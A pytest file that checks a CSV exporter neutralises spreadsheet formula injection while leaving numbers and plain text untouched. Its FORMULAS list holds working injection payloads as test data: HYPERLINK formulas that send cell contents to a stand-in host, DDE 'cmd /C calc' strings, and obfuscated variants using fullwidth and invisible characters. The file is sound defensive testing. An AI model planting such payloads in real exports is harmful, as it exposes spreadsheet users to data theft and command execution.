"""Words that a spreadsheet would take for a formula, in; cells that are text in any country, and the
same words when they are read, out."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.record.index import _bare, _safe, found_in, rows_in
from tests.commands.conftest import issued as issued  # fixtures
from tests.commands.conftest import issued_shop as issued_shop
from tests.commands.test_commands import run
from tests.commands.test_slips import slip

FORMULAS = (
    '+1 +HYPERLINK("http://x.invalid/"&A1,"open")',
    '=HYPERLINK("http://x.invalid/"&A1,"open")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1 mm*HYPERLINK(A1)",
    "\t=1+1",
    "\r=1+1",
    " \u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '"=1+1',
    "\uff1d1+1",
    "\uff0b1+A1",
    "\uff0dA1",
    "\uff20SUM(1)",
    "Thin;=1+1;cut",
    'Thin; "=1+1;cut',
    "-A1",
    "--1",
    "+",
    "'=1+1",
    "'",
)
NUMBERS = ("+0.3 mm", "-0.2", "+0.3", "-0,2 mm", "-5 °C", "+12%", "-0.2 bar g", "+3 lbf·in",
           "0.3; -0.2 mm; +1", "-1;+2", "-1.5 N/mm²")  # fmt: skip
PLAIN = ("Crack of 3 mm = too long", "A-0001", "0.96 mm, limit 0.954.", "", "3 - 4", "LQ14; gauge")


def begins(cell: str) -> str:
    """The first sign of a cell that a spreadsheet looks at."""
    return next((sign for sign in cell if sign.isprintable() and sign not in ' "\u00a0'), "")


def row(cells: list[str], sign: str = ",") -> list[str]:
    """The cells of a line as a spreadsheet parts it that has this sign between cells."""
    made = io.StringIO()
    csv.writer(made, lineterminator="\n").writerow(cells)
    return next(csv.reader([made.getvalue()], delimiter=sign))


@pytest.mark.parametrize("word", FORMULAS)
def test_a_formula_is_text_in_a_spreadsheet_of_any_country(word):
    cells = row(_safe(["A-0001", word, "LQ1"]))
    assert cells[0] == "A-0001" and cells[2] == "LQ1"
    for sign in (",", ";"):
        for cell in row(_safe(["A-0001", word, "LQ1"]), sign):
            assert begins(cell) not in set("=+-@\uff1d\uff0b\uff0d\uff20")
    assert _bare(cells)[1] == " ".join(word.split())


@pytest.mark.parametrize("word", [*NUMBERS, *PLAIN])
def test_numbers_and_plain_words_stay_as_they_are(word):
    assert _safe([word]) == [word]


@given(st.lists(st.text(alphabet="=+-@';\", \t1aA(\ufeff\uff1d", max_size=8), max_size=3))
def test_what_is_read_is_what_was_written(cells):
    assert _bare(_safe(cells)) == [" ".join(cell.split()) for cell in cells]


@pytest.mark.parametrize("word", FORMULAS[:4] + FORMULAS[15:17])
def test_a_formula_of_a_slip_is_text_in_the_index_and_is_found(issued, word, capsys):
    assert slip(issued, what=word) == 0
    assert run(issued, "trace", "A-0001") == 0
    text = (issued / "output/index.csv").read_text(encoding="utf-8")
    assert [each for each in rows_in(text) if each.note == word]
    for sign in (",", ";"):
        for cells in csv.reader(io.StringIO(text), delimiter=sign):
            assert not {*"=+-@"} & {begins(cell) for cell in cells}


@pytest.mark.parametrize("word", ["b;=1", "=1", ";", "; ", "b;"])
def test_a_word_is_found_whatever_stands_before_its_signs(word):
    cells = ",".join(_safe(["A-0001", "batch", "b;=1 ; b", "", "", "", "", ""]))
    text = "registers\n" + ",".join(f"c{n}" for n in range(8)) + f"\n{cells}\n"
    found = [each.value for each in found_in(text, word)]
    assert found == (["b;=1 ; b"] if word in "b;=1 ; b" else [])
